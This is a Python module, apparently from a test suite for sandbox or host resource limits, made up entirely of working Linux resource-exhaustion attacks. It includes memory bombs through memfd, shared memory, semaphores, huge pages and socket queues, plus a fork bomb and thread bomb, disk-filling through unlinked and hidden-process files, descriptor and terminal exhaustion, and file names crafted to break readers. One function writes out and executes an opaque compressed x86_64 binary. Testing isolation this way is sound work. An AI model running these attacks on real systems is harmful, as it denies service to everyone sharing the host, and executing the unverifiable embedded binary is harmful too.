"""Attacks by quantity: memory, processes, files, descriptors."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import mmap
import os
import signal
import socket
import struct
import termios
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

Host = dict[str, Any]
MIB = 1024 * 1024


def heap_bomb(host: Host) -> object:
    """Take more memory than there is for the session."""
    held = []
    while len(held) * 16 * MIB < 2 * host["memory"]:
        held.append(bytearray(16 * MIB))
        time.sleep(0.01)
    time.sleep(5)
    return f"{len(held) * 16} MiB"


def memory_of_many(host: Host) -> object:
    """Take it in many processes, each within its bound."""
    children = []
    for _ in range(8):
        child = os.fork()
        if child == 0:
            data = bytearray(host["memory"] // 2)
            data[::4096] = b"x" * len(data[::4096])
            time.sleep(6)
            os._exit(0)
        children.append(child)
    statuses = [os.waitpid(child, 0)[1] for child in children]
    return statuses == [0] * 8 and "all lived"


def memfd_bomb(host: Host) -> object:
    """Take it as files in memory that no process maps."""
    files = [os.memfd_create(str(number)) for number in range(64)]
    chunk = bytes(MIB)
    for file in files:
        for _ in range(host["file_size"] // MIB):
            os.write(file, chunk)
        time.sleep(0.02)
    time.sleep(5)
    return f"{len(files) * host['file_size'] // MIB} MiB"


def in_flight_bomb(host: Host) -> object:
    """Take it as files in memory whose only descriptor lies in a socket."""
    kept = []
    for file in _memfds(host):
        ends = socket.socketpair()
        socket.send_fds(ends[0], [b"x"], [file])
        os.close(file)
        kept.append(ends)
    return _lives_with(host)


def mapped_bomb(host: Host) -> object:
    """Take it as files in memory that are mapped without use, and not open."""
    libc = _libc()
    for file in _memfds(host):
        libc.mmap(None, host["file_size"], mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
        os.close(file)
    return _lives_with(host)


def shared_bomb(host: Host) -> object:
    """Take it as memory that processes share, and let go of each page without giving it back."""
    kept = []
    for _ in range(2 * host["memory"] // (16 * MIB)):
        pages = mmap.mmap(-1, 16 * MIB)
        pages.write(b"x" * (16 * MIB))
        pages.madvise(mmap.MADV_DONTNEED)
        kept.append(pages)
        time.sleep(0.02)
    return _lives_with(host)


def thread_table_bomb(host: Host) -> object:
    """Take it as files in memory that only a thread with a table of its own has open."""
    libc = _libc()
    files = list(_memfds(host))
    stack = ctypes.create_string_buffer(MIB)
    top = (ctypes.addressof(stack) + MIB) & ~63
    flags = 0x100 | 0x200 | 0x800 | 0x10000  # CLONE_VM, FS, SIGHAND, THREAD; not FILES
    thread = libc.clone(ctypes.cast(libc.pause, ctypes.c_void_p), ctypes.c_void_p(top), flags, None)
    if thread < 0:
        raise OSError(ctypes.get_errno(), "clone")
    for file in files:
        os.close(file)
    return _lives_with(host)


# A program for x86_64 without a library: processes of a chain take some dozen microseconds. Each
# writes 1 MiB of zeros to a memfd, as many as its argument has letters; four seconds later, if all
# have been written within twelve, the last makes the directory `lived`.
_FAST_CHAIN = (
    "c-pIX^>JfjWMqH=CI&kO5U+y40nB%RiaQ{b0L3hTY8)6?7?{Co*}>`|0HzN{Z-k2PU=RS)0#JTLM4YSPlLkA6"
    "5)Q}zM?C%?d;NLGNuaple|}b%-U1#3$MQpMjBD$Y5=X~xNBB#Hci021^ysxs1Id5mXLam6>iGXmDKD~amK`8x"
    "xpcnw=r#2QvUY*&<!9Xu65U}5B=}id57f*3KVACq^)#T_KvRPmz@~znx9<QWNX3rlPy=%^%TiMq81#xWic5-0"
    "5|bG8N>VFI81#~giy0^e+&~NqL)7qNKnXt>U_|2!0x<^=Geh|Xj1c{raD@UW>IJZv$Be~YF#Tc#><0i>aZG;"
)


def memfds_of_a_chain(host: Host) -> object:
    """Take it as files in memory of a chain of processes, each of which forks the next and ends."""
    import base64
    import zlib

    size = host["memory"] * 5 // 4 // MIB
    if os.uname().machine != "x86_64":
        kept = "file = file if done % 15 else os.memfd_create('a')"
        return _lives_as_chain(size, f"{kept}; os.write(file, bytes({MIB}))")
    with open("chain", "wb") as program:
        program.write(zlib.decompress(base64.b85decode(_FAST_CHAIN)))
    os.chmod("chain", 0o755)
    return _lives_when_executed("./chain", "x" * size)


def _lives_as_chain(steps: int, step: str) -> object:
    """Runs a step in every twentieth process of a chain, so many times; the chain goes on then.

    They are made by calls without Python's own work, so that each is gone in a moment.
    """
    source = f"""if True:
        import ctypes, os, time
        call = ctypes.CDLL(None).syscall
        clone, end = (56, 231) if os.uname().machine == "x86_64" else (220, 94)
        done, until = 0, time.monotonic() + 14
        while time.monotonic() < until:
            if done < {steps}:
                {step}
                done += 1
                if done == {steps}: until = min(until, time.monotonic() + 4)
            for _ in range(20):
                if call(clone, 17, 0, 0, 0, 0) > 0:  # SIGCHLD
                    call(end, 0)
        if done == {steps}: open("lived", "w").close()
    """
    return _lives_when_executed("/usr/bin/python3", "-ISEc", source)


def _lives_when_executed(*argv: str) -> object:
    """Executes a program in a child, and waits for it to tell that it lived."""
    import signal

    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    _libc().prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: nobody waits for the dead
    if os.fork() == 0:
        os.execv(argv[0], argv)
    time.sleep(17)  # whoever is in a list rests
    return os.path.exists("lived") and "lived"


def system_v_bomb(host: Host) -> object:
    """Take it as System V shared memory that nobody has attached."""
    libc = _libc()
    for _ in range(2 * host["memory"] // (16 * MIB)):
        number = libc.shmget(0, 16 * MIB, 0o1600)
        address = libc.shmat(number, None, 0) if number >= 0 else None
        if address is None:
            raise OSError(ctypes.get_errno(), "shmget")
        ctypes.memset(address, 1, 16 * MIB)
        libc.shmdt(ctypes.c_void_p(address))
        time.sleep(0.02)
    return _lives_with(host)


def semaphore_bomb(host: Host) -> object:
    """Take the kernel's memory as System V semaphores, 2 MiB in each call."""
    libc = _libc()
    for _ in range(host["memory"] // MIB):
        if libc.semget(0, 32000, 0o1600) < 0:
            raise OSError(ctypes.get_errno(), "semget")
    return _lives_with(host)


def huge_page_bomb(host: Host) -> object:
    """Keep pages of 2 MiB by one byte of each that lies in a pipe."""
    libc, size, kept = _libc(), 2 * MIB, []
    for _ in range(host["memory"] // (8 * size)):
        address = libc.mmap(None, 10 * size, 3, 0x22, -1, 0)  # read and write, private, no file
        first = (address + size - 1) // size * size
        libc.madvise(ctypes.c_void_p(first), ctypes.c_size_t(8 * size), mmap.MADV_HUGEPAGE)
        kept.append(os.pipe())
        for number in range(8):
            ctypes.memset(first + number * size, 1, 1)
            byte = (ctypes.c_size_t * 2)(first + number * size, 1)  # struct iovec
            if libc.vmsplice(kept[-1][1], byte, 1, 0) < 0:
                raise OSError(ctypes.get_errno(), "vmsplice")
        libc.munmap(ctypes.c_void_p(address), ctypes.c_size_t(10 * size))
    return _lives_with(host)


def access_lists_bomb(host: Host) -> object:
    """Take the kernel's memory as access lists of empty files in memory, 64 KiB in each."""
    libc, entries = _libc(), 8180
    rights = [(1, 6), *[(2, 6)] * (entries - 4), (4, 6), (16, 6), (32, 6)]
    access_list = struct.pack("=I", 2)
    access_list += b"".join(struct.pack("=HHI", *one, os.getuid()) for one in rights)
    for number in range(2 * host["memory"] // (64 * 1024)):
        file = os.memfd_create(str(number))
        os.setxattr(file, "system.posix_acl_access", access_list)
        libc.mmap(None, mmap.PAGESIZE, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
        os.close(file)
    return _lives_with(host)


def attributes_bomb(host: Host) -> object:
    """Take it as attributes of one file in memory, as many as one likes."""
    file = os.memfd_create("attributes")
    for number in range(2 * host["memory"] // 512):
        os.setxattr(file, f"user.{number:0240}", bytes(256))
    return _lives_with(host)


def memory_policies_bomb(host: Host) -> object:
    """Take it as policies of memory (NUMA), one for each second page of files in memory."""
    libc, page, pages, files = _libc(), mmap.PAGESIZE, 4096, 8
    mbind, bind = 237 if os.uname().machine == "x86_64" else 235, 2  # MPOL_BIND
    nodes, length = ctypes.c_ulong(1), ctypes.c_size_t(pages * page)
    for number in range(files):
        file = os.memfd_create(str(number))
        os.ftruncate(file, length.value)
        address = libc.mmap(None, length.value, 3, mmap.MAP_SHARED, file, 0)
        for start in range(address, address + length.value, 2 * page):
            part = ctypes.c_void_p(start), ctypes.c_ulong(page)
            if libc.syscall(mbind, *part, bind, ctypes.byref(nodes), ctypes.c_ulong(64), 0):
                raise OSError(ctypes.get_errno(), "mbind")
        libc.munmap(ctypes.c_void_p(address), length)
    return f"{files * pages // 2} policies"


def file_locks_bomb(host: Host) -> object:
    """Take it as locks on parts of files, as many as one likes on each."""
    return _file_locks(6)  # F_SETLK


def open_file_locks_bomb(host: Host) -> object:
    """Take it as locks of open files, which no process has."""
    return _file_locks(37)  # F_OFD_SETLK


def orphaned_locks_bomb(host: Host) -> object:
    """Take it as locks of a process that has ended, and shared its descriptors with another."""
    files, libc = 0x400, _libc()  # CLONE_FILES
    child = libc.syscall(56 if os.uname().machine == "x86_64" else 220, files | 17, 0, 0, 0, 0)
    if child < 0:
        raise OSError(ctypes.get_errno(), "clone")
    if child == 0:
        _file_locks(6)
        os._exit(0)
    os.waitpid(child, 0)
    time.sleep(5)
    return "possible"


def told_of_changes(host: Host) -> object:
    """Be told of each change in a directory by any number of descriptors."""
    return _told_by_signals(os.open(".", os.O_RDONLY), 1026, 2)  # F_NOTIFY, DN_MODIFY


def leases_bomb(host: Host) -> object:
    """Take any number of leases on a file, each of which its next writer waits for."""
    open("leased", "w").close()
    return _told_by_signals(os.open("leased", os.O_RDONLY), 1024, fcntl.F_RDLCK)  # F_SETLEASE


def told_of_input(host: Host) -> object:
    """Be told of input by any number of descriptors."""
    reader, _ = os.pipe()
    try:
        fcntl.ioctl(reader, termios.FIOASYNC, b"\1\0\0\0")
        return "by ioctl"
    except OSError:
        return _told_by_signals(reader, fcntl.F_SETFL, os.O_NONBLOCK | 0x2000)  # O_ASYNC


def _told_by_signals(descriptor: int, command: int, argument: int) -> object:
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    return f"possible: {fcntl.fcntl(descriptor, command, argument)}"


def _file_locks(command: int) -> object:
    """Locks every second byte of many files: the more there are in one, the longer Linux takes."""
    files, each = 100, 300
    for number in range(files):
        file = os.open(f"locked{number}", os.O_RDWR | os.O_CREAT)
        for start in range(0, 2 * each, 2):
            lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, start, 1, 0)
            fcntl.fcntl(file, command, lock)
    time.sleep(5)
    return f"{files * each} locks"


def netlink_answers_bomb(host: Host) -> object:
    """Take the kernel's memory as answers of netlink that nobody reads."""

    request = struct.pack("=IHHII", 16 + 16000, 9999, 1 | 4, 1, 0) + bytes(16000)

    def fill() -> socket.socket:
        one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 * MIB)
        for _ in range(20):
            one.send(request)
        return one

    return _in_sockets_of_many(host, fill)


def error_reports_bomb(host: Host) -> object:
    """Take it as reports of errors in the queues of UDP."""

    def fill() -> socket.socket:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 * MIB)
        one.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR
        one.connect(("127.0.0.1", 9))
        for _ in range(400):
            with contextlib.suppress(OSError):  # the report of the last
                one.send(bytes(1400))
        return one

    return _in_sockets_of_many(host, fill)


def timestamps_bomb(host: Host) -> object:
    """Take it as timestamps of what was sent by TCP, for which a message itself asks."""
    kinds = (socket.SOL_SOCKET, 37, struct.pack("=I", 1 << 1 | 1 << 8 | 1 << 9))
    kept: list[socket.socket] = []

    def fill() -> socket.socket:
        with socket.create_server(("127.0.0.1", 0)) as server:
            one = socket.create_connection(server.getsockname())
            other, _ = server.accept()
        kept.append(other)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 * MIB)
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for _ in range(400):
            one.sendmsg([b"x"], [kinds])
            other.recv(100)
        return one

    return _in_sockets_of_many(host, fill)


def tcp_keys_bomb(host: Host) -> object:
    """Take it as keys that a socket has for peers (TCP_MD5SIG)."""

    def fill() -> socket.socket:
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        for peer in range(1000):
            address = struct.pack("=HH4s120s", 2, 0, struct.pack(">I", (10 << 24) + peer), b"")
            key = struct.pack("=BBHi80s", 0, 0, 4, 0, b"key")
            try:
                one.setsockopt(socket.IPPROTO_TCP, 14, address + key)
            except OSError:
                if not peer:
                    raise
                break
        return one

    return _in_sockets_of_many(host, fill)


def _in_sockets_of_many(host: Host, fill: Callable[[], socket.socket]) -> object:
    """Fills sockets in twenty processes until they keep twice as much as the session may have."""
    fill()  # raises here what it would raise in each of them
    children, (read, write) = 20, os.pipe()
    for _ in range(children):
        if os.fork() == 0:
            held: list[socket.socket] = []
            kept = 0
            with contextlib.suppress(OSError):  # no descriptor is left
                while kept < 2 * host["memory"] // children:
                    held.append(fill())
                    info = struct.unpack("9I", held[-1].getsockopt(socket.SOL_SOCKET, 55, 36))
                    kept += info[0] + info[6]  # SO_MEMINFO: what it keeps to be read, options
            os.write(write, b"%10d" % kept)
            time.sleep(60)
            os._exit(0)
    total = sum(int(os.read(read, 10)) for _ in range(children))
    time.sleep(3)
    return total > host["memory"] and f"{total // MIB} MiB"


def _memfds(host: Host) -> Iterator[int]:
    """Yields files in memory, twice as much as the session may have, one after the other."""
    for number in range(2 * host["memory"] // host["file_size"]):
        file = os.memfd_create(str(number))
        os.ftruncate(file, host["file_size"])
        with mmap.mmap(file, host["file_size"]) as pages:  # what is written counts for the disk
            pages.write(bytes(host["file_size"]))
        yield file
        time.sleep(0.02)


def _libc() -> ctypes.CDLL:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = libc.shmat.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    return libc


def _lives_with(host: Host) -> str:
    time.sleep(5)
    return f"more than {host['memory'] // MIB} MiB"


def shm_bomb(host: Host) -> object:
    """Take it as shared memory."""
    return _filled("/dev/shm", host["shm"])


def tmp_bomb(host: Host) -> object:
    """Take it as files of /tmp, which is memory too."""
    return _filled("/tmp", host["tmp"])


def _filled(directory: str, bound: int) -> object:
    total = 0
    for number in range(64):
        with open(f"{directory}/{number}", "wb", buffering=0) as file:
            for _ in range(4):
                total += file.write(bytes(MIB))
        if total > 2 * bound:
            return f"{total // MIB} MiB"
    return None


def pipe_bomb(host: Host) -> object:
    """Take the kernel's memory as full pipes."""
    total = 0
    for _ in range(60):
        _, end = os.pipe()
        fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, MIB)
        os.set_blocking(end, False)
        total += os.write(end, bytes(MIB))
    return total > 64 * MIB and f"{total // MIB} MiB"


def fork_bomb(host: Host) -> object:
    """Fork until nothing is left."""
    count = 0
    for _ in range(host["processes"] * 3):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        count += 1
    time.sleep(3)
    return f"{count} processes"


def thread_bomb(host: Host) -> object:
    """Start threads until nothing is left."""
    threading.stack_size(64 * 1024)
    count = 0
    try:
        for _ in range(host["processes"] * 3):
            threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
            count += 1
    except RuntimeError as error:
        raise OSError(11, str(error)) from None
    time.sleep(3)
    return f"{count} threads"


def large_file(host: Host) -> object:
    """Write a file without end."""
    with open("large", "wb", buffering=0) as file:
        for _ in range(2 * host["file_size"] // MIB):
            file.write(bytes(MIB))
    return "written"


def sparse_file(host: Host) -> object:
    """Make a file that only seems large, to break who reads it."""
    with open("sparse", "wb") as file:
        file.truncate(1 << 40)
    return "1 TiB"


def fallocated_file(host: Host) -> object:
    """Reserve the disk without writing."""
    with open("reserved", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 4 * host["file_size"])
    return "reserved"


def reserve_by_call(host: Host) -> object:
    """Reserve the disk by fallocate itself, 16 MiB in each of many files."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for number in range(64):
        file = os.open(f"r{number}", os.O_RDWR | os.O_CREAT)
        if libc.fallocate64(file, 0, ctypes.c_int64(0), ctypes.c_int64(host["file_size"])):
            raise OSError(ctypes.get_errno(), "fallocate")
    return "reserved"


def reserve_by_ioctl(host: Host) -> object:
    """Reserve it by FS_IOC_RESVSP, the older way."""
    import struct

    file = os.open("r", os.O_RDWR | os.O_CREAT)
    wish = struct.pack("hhxxxxqqiI4i", 1, 0, 0, host["file_size"], 0, 0, 0, 0, 0, 0)
    fcntl.ioctl(file, 0x40305828, wish)
    return "reserved"


def _write_nameless(host: Host, open_file: Any, keep: Any = None) -> object:
    """Write twice what the workspace may hold to files that have no name."""
    held = []
    for number in range(2 * host["workspace"] // (8 * MIB)):
        file = open_file(f"u{number}")
        for _ in range(8):
            os.write(file, bytes(MIB))
        held.append(file if keep is None else keep(file))
    time.sleep(6)
    return f"{len(held) * 8} MiB"


def _unlinked(name: str) -> int:
    file = os.open(name, os.O_RDWR | os.O_CREAT)
    os.unlink(name)
    return file


def unlinked_files(host: Host) -> object:
    """Fill the disk with files that were unlinked while they are open."""
    return _write_nameless(host, _unlinked)


def temporary_files(host: Host) -> object:
    """Fill it with files that never had a name (O_TMPFILE)."""
    return _write_nameless(host, lambda name: os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600))


def mapped_files(host: Host) -> object:
    """Fill it with unlinked files that are mapped and not open."""
    import mmap

    def keep(file: int) -> mmap.mmap:
        mapped = mmap.mmap(file, 4096)
        os.close(file)
        return mapped

    return _write_nameless(host, _unlinked, keep)


def files_in_sockets(host: Host) -> object:
    """Fill it with files whose only descriptor lies in a socket."""

    def keep(file: int) -> object:
        ends = socket.socketpair()
        socket.send_fds(ends[0], [b"x"], [file])
        os.close(file)
        return ends

    return _write_nameless(host, _unlinked, keep)


def files_of_hidden_process(host: Host) -> object:
    """Fill it from a process that does not let itself be looked into."""
    import ctypes

    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    return _write_nameless(host, _unlinked)


def files_in_ruleset(host: Host) -> object:
    """Fill it with files that only a ruleset of Landlock keeps alive."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(444, None, ctypes.c_size_t(0), 1) < 0:
        raise OSError(ctypes.get_errno(), "landlock_create_ruleset")
    return "possible"


def files_of_the_unattended(host: Host) -> object:
    """Fill it from processes that nobody waits for, so that what they wrote is not told."""
    import signal

    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for number in range(2 * host["workspace"] // MIB):
        if os.fork() == 0:
            file = os.open(f"c{number}", os.O_WRONLY | os.O_CREAT)
            os.write(file, bytes(MIB))
            os._exit(0)
        time.sleep(0.01)
    time.sleep(6)
    return "written"


def files_of_a_chain(host: Host) -> object:
    """Fill it with files of a chain of processes, each of which forks the next and ends."""
    for _ in range(30):  # the more there are, the longer it takes to stop them all
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    size = 2 * host["workspace"] // MIB
    kept = "file = file if done % 4 else os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600)"
    return _lives_as_chain(size, f"{kept}; os.write(file, bytes({MIB}))")


def files_of_hard_names(host: Host) -> object:
    """Fill it below names that break those who read them as lines or as UTF-8."""
    for _ in range(20):
        name = b"\r\n (deleted) \xff" + b"d" * 200
        os.mkdir(name)
        os.chdir(name)
    for number in range(2 * host["workspace"] // (8 * MIB)):
        file = os.open(b"\n\xfe%d" % number, os.O_WRONLY | os.O_CREAT)
        for _ in range(8):
            os.write(file, bytes(MIB))
    time.sleep(6)
    return "written"


def many_files(host: Host) -> object:
    """Fill the disk with files that are each small enough."""
    for number in range(2 * host["workspace"] // (4 * MIB)):
        with open(f"part{number}", "wb") as file:
            file.write(bytes(4 * MIB))
    time.sleep(6)
    return "written"


def many_descriptors(host: Host) -> object:
    """Open files until the host has none left."""
    held = [os.open("/dev/null", os.O_RDONLY) for _ in range(2 * host["open_files"])]
    return f"{len(held)} descriptors"


def many_sockets(host: Host) -> object:
    """Open sockets until the host has none left."""
    held = [socket.socketpair() for _ in range(host["open_files"])]
    return f"{len(held)} pairs"


def many_udp_sockets(host: Host) -> object:
    """Bind so many sockets to one port that a packet for all of them stops a processor."""
    held = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
    for _ in range(9):
        if os.fork():
            continue
        for _ in range(100):
            held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            held[-1].bind(("", 4000))
        time.sleep(60)
    time.sleep(6)
    return "900 sockets"


def many_orphans(host: Host) -> object:
    """Close connections until Linux cuts short those of everybody on the host."""
    listeners = []
    for number in range(40_000):
        if number % 4000 == 0:
            listeners.append(socket.create_server(("127.0.0.1", 0), backlog=4096))
        with socket.socket() as end:  # more than a minute has it stay a socket
            end.setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, 119)
            end.connect(listeners[-1].getsockname())
    time.sleep(6)
    return f"{number} connections"


def many_terminals(host: Host) -> object:
    """Open terminals until the host has none left for others."""
    os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    children, (read, write) = 5, os.pipe()
    for _ in range(children):
        if os.fork() == 0:
            held = []
            try:
                while len(held) < 80:
                    held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
            finally:
                os.write(write, b"%4d" % len(held))
                time.sleep(60)
                os._exit(0)
    total = sum(int(os.read(read, 4)) for _ in range(children))
    if total <= 256:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    return f"{total} terminals"


def core_dump(host: Host) -> object:
    """Have the system write a core dump."""
    child = os.fork()
    if child == 0:
        os.abort()
    _, status = os.waitpid(child, 0)
    return os.WCOREDUMP(status) and "dumped"
